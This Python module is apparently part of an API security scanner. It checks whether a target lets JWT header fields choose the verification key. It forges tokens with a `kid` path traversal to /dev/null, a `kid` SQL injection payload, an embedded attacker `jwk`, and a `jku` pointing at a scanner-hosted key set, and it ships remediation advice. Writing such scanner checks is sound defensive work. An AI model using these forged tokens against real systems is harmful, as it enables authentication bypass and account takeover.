"""Authentication: JWT header injection — `kid` path/SQL tricks, an embedded `jwk`, a `jku` we control.

The `jku` key set is served by the scanner's canary (scan/canary.py), wherever the target can reach it.
"""

from __future__ import annotations

import secrets

import orjson
from cryptography.hazmat.primitives.asymmetric import rsa

from bastion.scan import tokens
from bastion.scan.checks._forgery import jwt_sessions, try_forged
from bastion.scan.context import ScanContext
from bastion.scan.findings import CheckInfo, Severity
from bastion.scan.registry import check
from bastion.scan.reporter import Reporter
from bastion.scan.sessions import Session

INFO = CheckInfo(
    id="authn.jwt-header-injection",
    title="JWT header trusted: kid, jwk or jku lets the attacker choose the key",
    severity=Severity.CRITICAL,
    cwe=347,
    owasp="API2",
    needs_users=1,
    remediation="Treat `kid` as an opaque lookup key into keys you configured; never fetch `jku`/`x5u` URLs or "
    "trust a `jwk` embedded in the token.",
    bastion="authn:\n  methods:\n    - jwt: {issuer: ..., algorithms: [RS256], jwks_url: ...}   # jku, x5u and jwk "
    "headers are ignored",
)


@check(INFO)
def run(ctx: ScanContext, report: Reporter) -> None:
    for session, parsed in jwt_sessions(ctx, report):
        _attack(ctx, report, session, parsed)


def _attack(ctx: ScanContext, report: Reporter, session: Session, parsed: tokens.ParsedToken) -> None:
    claims = parsed.claims
    # kid pointing at a file whose content is known (empty), or at SQL that returns a chosen key.
    hmac_header = {k: v for k, v in parsed.header.items() if k not in ("jku", "x5u", "jwk")} | {"alg": "HS256"}
    attempts = [
        (
            tokens.sign_hmac({**hmac_header, "kid": "../../../../../../dev/null"}, claims, b""),
            "an HS256 token with kid=../../../../dev/null signed with an empty key",
        ),
        (
            tokens.sign_hmac({**hmac_header, "kid": "x' UNION SELECT 'bst-key' -- "}, claims, b"bst-key"),
            "an HS256 token whose kid injects SQL returning the key 'bst-key'",
        ),
    ]
    for forged, description in attempts:
        if try_forged(ctx, report, session, forged, description):
            return
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    kid = "bst-" + secrets.token_hex(4)
    jwk = tokens.public_jwk(key, kid)
    rs_header = {k: v for k, v in parsed.header.items() if k not in ("jku", "x5u")} | {"alg": "RS256", "kid": kid}
    embedded = tokens.sign_rs256({**rs_header, "jwk": jwk}, claims, key)
    if try_forged(ctx, report, session, embedded, "an RS256 token signed with the attacker's key embedded as `jwk`"):
        return
    canary = ctx.canary()
    if isinstance(canary, str):
        return  # the target could not fetch a key set from us
    path, _ = canary.token("jwks")
    url = canary.serve(path, orjson.dumps({"keys": [jwk]}))
    forged = tokens.sign_rs256({**rs_header, "jku": url}, claims, key)
    try_forged(ctx, report, session, forged, f"an RS256 token whose `jku` points at the attacker's JWKS ({url})")
